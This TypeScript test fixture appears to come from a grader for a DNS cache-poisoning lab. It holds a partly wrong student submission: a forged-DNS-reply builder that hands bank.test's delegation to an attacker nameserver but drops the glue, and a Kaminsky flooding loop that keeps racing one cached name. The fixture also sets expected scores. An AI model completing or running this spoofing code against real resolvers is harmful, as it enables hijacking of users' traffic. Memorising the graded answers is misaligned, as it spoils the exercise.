import type { PartialSubmission } from "../partials";

/**
 * The header right; a forged reply that takes bank.test's delegation over but
 * forgets the glue, so the resolver is left with a server it cannot find: it
 * answers SERVFAIL for www.bank.test, never the attacker's address. And an
 * attack's loop that races one name over and over: after the first race the
 * name is cached, so every later race has no query to win.
 */
const partial: PartialSubmission = {
  answers: {
    "forge-solution": `function forgedReply(name: string, id: number): Buffer {
  const wire = (n: string) => Buffer.concat([...n.split(".").filter((l) => l).map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0])]);
  const record = (owner: string, type: number, rdata: Buffer) => {
    const fixed = Buffer.alloc(10);
    fixed.writeUInt16BE(type, 0);
    fixed.writeUInt16BE(1, 2);
    fixed.writeUInt32BE(86400, 4);
    fixed.writeUInt16BE(rdata.length, 8);
    return Buffer.concat([wire(owner), fixed, rdata]);
  };
  return Buffer.concat([
    forgedHeader(id, 1, 1, 0),
    wire(name), Buffer.from([0, 1, 0, 1]),
    record(name, 1, Buffer.from([10, 6, 6, 6])),
    record("bank.test.", 2, wire("ns.attacker.test.")),
  ]);
}
`,
    "loop-solution": `async function kaminskyAttack(lab: KaminskyLab, budget: number): Promise<number> {
  const name = "qzxvbnmkla.bank.test.";
  for (let attempt = 1; attempt <= budget; attempt++) {
    const flood = Array.from({ length: 16_384 }, (_, i) => forgedReply(name, (attempt * 16_384 + i) & 0xffff));
    if ((await lab.race(name, flood)) === KAMINSKY_LAB.attacker) return attempt;
  }
  return budget;
}
`,
  },
  points: {
    // Six checks: the decoded records lack the glue, for the visible name and for the names of other lengths; the two
    // fixed-port races end in SERVFAIL, not 10.6.6.6; random ports (10.0.0.80) and the bailiwick check (SERVFAIL) give
    // what they give any forgery.
    "forge-check": 2.67,
    // Four checks: the fixed-port run fails (a first race lost or won, www.bank.test is not 10.6.6.6: the name is cached,
    // and the forgery lacks its glue), and so do the distinct names; giving up at the budget with random ports, and
    // never racing past it, pass.
    "loop-check": 1,
  },
};
export default partial;
